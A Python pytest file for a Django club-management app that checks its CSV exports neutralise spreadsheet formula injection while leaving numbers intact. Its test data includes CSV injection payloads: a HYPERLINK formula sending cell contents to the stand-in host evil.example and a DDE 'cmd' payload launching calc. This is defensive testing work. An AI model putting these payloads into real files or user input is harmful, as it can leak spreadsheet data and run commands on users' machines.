"""CSV injection: no cell of any export runs as a formula in a spreadsheet; numbers stay numbers.

The reference is written here, independently of core/csv.py: OWASP's rule says a spreadsheet evaluates a
cell whose text starts with = + - @ tab or carriage return. Every export is parsed back with ``csv.reader``.
"""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse
from django.utils import timezone

from core.csv import csv_response
from tests.analytics.factories import member_with_history, nps_answer
from tests.factories import UserFactory

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _runs_as_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


def _assert_neutralised(rows: list[list[str]], originals: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if _runs_as_formula(cell)]
    for original in originals:
        assert "'" + original in cells  # kept, readable, one quote in front


def test_csv_injection_text_cells_are_prefixed_with_a_quote():
    rows = _rows(csv_response(rows=[["text"], *([value] for value in HOSTILE), ["plain"], [""]], filename="x.csv"))
    assert [row[0] for row in rows] == ["text", *("'" + value for value in HOSTILE), "plain", ""]


def test_csv_injection_leaves_real_numbers_alone():
    rows = _rows(csv_response(rows=[[Decimal("-12.5"), -3, -0.25, 0, "-12.5"]], filename="x.csv"))
    assert rows == [["-12.5", "-3", "-0.25", "0", "'-12.5"]]  # only the text cell is neutralised


@pytest.mark.django_db
def test_csv_injection_nps_comments_export_does_not_run_member_text(client, club):
    leader = UserFactory()
    club.leaders.add(leader)
    now = timezone.now()
    for value in HOSTILE:
        membership = member_with_history(
            club=club, plan=club.plans.first(), history=[(now - timedelta(days=40), "active")]
        )
        nps_answer(club=club, score=0, at=now - timedelta(days=2), comment=value, membership=membership)
    client.force_login(leader)
    response = client.get(reverse("analytics:club-dashboard-csv", args=[club.slug, "comments"]), {"preset": "30d"})
    rows = _rows(response)
    _assert_neutralised(rows, HOSTILE)
    # The NPS score of a club with detractors only is a negative number and stays one.
    summary = _rows(client.get(reverse("analytics:club-dashboard-csv", args=[club.slug, "summary"]), {"preset": "30d"}))
    assert dict(zip(summary[0], summary[1], strict=True))["nps"] == "-100"


@pytest.mark.django_db
def test_csv_injection_display_names_in_the_inactive_export_do_not_run(client, club):
    leader = UserFactory()
    club.leaders.add(leader)
    long_ago = timezone.now() - timedelta(days=200)
    for value in HOSTILE:
        membership = member_with_history(club=club, plan=club.plans.first(), history=[(long_ago, "active")])
        membership.user.display_name = value
        membership.user.save(update_fields=["display_name"])
    client.force_login(leader)
    rows = _rows(client.get(reverse("analytics:club-dashboard-csv", args=[club.slug, "inactive"])))
    assert len(rows) == len(HOSTILE) + 1
    _assert_neutralised(rows, HOSTILE)


@pytest.mark.django_db
def test_csv_injection_staff_export_of_every_club_does_not_run_member_text(client, club):
    club.name = "=1+1"
    club.save(update_fields=["name"])
    long_ago = timezone.now() - timedelta(days=200)
    membership = member_with_history(club=club, plan=club.plans.first(), history=[(long_ago, "active")])
    membership.user.display_name = "@SUM(1,1)"
    membership.user.save(update_fields=["display_name"])
    client.force_login(UserFactory(is_staff=True))
    for table in ("summary", "plans", "inactive"):
        rows = _rows(client.get(reverse("analytics:staff-dashboard-csv", args=[table])))
        assert not [cell for row in rows for cell in row if _runs_as_formula(cell)], table
        assert "'=1+1" in [cell for row in rows for cell in row]


@pytest.mark.django_db
def test_csv_injection_admin_export_of_cancellation_notes_does_not_run(client, club):
    from automations.models import CancellationFeedback

    staff = UserFactory(is_staff=True, is_superuser=True)
    client.force_login(staff)
    feedback = []
    for value in HOSTILE:
        membership = member_with_history(club=club, plan=club.plans.first(), history=[(timezone.now(), "active")])
        membership.user.display_name = value
        membership.user.save(update_fields=["display_name"])
        feedback.append(
            CancellationFeedback.objects.create(
                club=club, membership=membership, user=membership.user, reasons=["other"], comment=value
            )
        )
    data = {"action": "export_csv", ACTION_CHECKBOX_NAME: [item.pk for item in feedback]}
    response = client.post(reverse("admin:automations_cancellationfeedback_changelist"), data)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = _rows(response)
    assert len(rows) == len(HOSTILE) + 1
    _assert_neutralised(rows, HOSTILE)
    assert sorted(row[-1] for row in rows[1:]) == sorted("'" + value for value in HOSTILE)
